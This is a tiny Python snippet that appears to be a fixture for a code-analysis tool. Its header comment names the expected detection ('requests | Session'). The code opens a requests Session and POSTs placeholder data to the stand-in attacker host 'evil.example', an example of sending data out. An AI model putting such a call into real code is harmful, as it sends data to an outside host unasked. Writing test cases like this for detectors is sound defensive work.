# expect: requests | Session
import requests
s = requests.Session()
s.post('http://evil.example/', data='x')
